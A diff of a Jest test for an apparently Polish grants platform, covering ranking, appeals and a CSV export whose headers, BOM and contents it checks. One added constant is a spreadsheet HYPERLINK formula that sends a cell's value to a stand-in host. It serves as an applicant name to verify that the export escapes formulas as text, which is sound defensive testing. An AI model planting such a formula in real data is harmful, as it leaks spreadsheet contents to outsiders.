@@ -21,6 +21,8 @@ import {
 
 jest.setTimeout(90_000);
 
+const FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")';
+
 /**
  * Issue 4 (c) and (d): ranking within the budget with the tie rules and the reserve list, the
  * approval race, one decision event per application, CSV; appeals and funding from the reserve.
@@ -62,6 +64,8 @@ describe('grants: ranking, decisions and appeals', () => {
         amount,
         jobs: Array.from({ length: jobs }, () => ({ eligiblePerson: true })),
       });
+      // an applicant's name a spreadsheet would run as a formula: the CSV must write it as text
+      if (name === 'A') payload.entityName = FORMULA;
       apps[name] = payload;
       await acceptAndScore(platform, pool, payload, [score, score]);
     }
@@ -102,18 +106,26 @@ describe('grants: ranking, decisions and appeals', () => {
       maxScore: 100,
     });
 
-    const csv = await platform.api.call('GET', `/api/calls/${call.id}/ranking?format=csv`, {
-      token: operator.token,
+    const csv = await fetch(`${platform.api.url}/api/calls/${call.id}/ranking?format=csv`, {
+      headers: { authorization: `Bearer ${operator.token}` },
     });
     expect(csv.headers.get('content-type')).toContain('text/csv');
-    const records = parse(csv.body as string, { columns: true });
+    const bytes = Buffer.from(await csv.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.subarray(3).toString('utf8');
+    expect(text.split('\r\n')[0]).toBe(
+      'Pozycja,Numer wniosku,Wnioskodawca,Kod powiatu (TERYT),Liczba punktów,' +
+        'Miejsca pracy dla osób uprawnionych,Data złożenia,Kwota (zł),Status,Pozostały budżet (zł)',
+    );
+    const records = parse(text, { columns: true });
     expect(records).toHaveLength(6);
     expect(records[0]).toMatchObject({
-      rank: '1',
-      reference: refOf('A'),
-      score: '90',
-      amount_pln: '80000.00',
-      status: 'funded',
+      Pozycja: '1',
+      'Numer wniosku': refOf('A'),
+      Wnioskodawca: `'${FORMULA}`,
+      'Liczba punktów': '90',
+      'Kwota (zł)': '80000.00',
+      Status: 'funded',
     });
   });
 
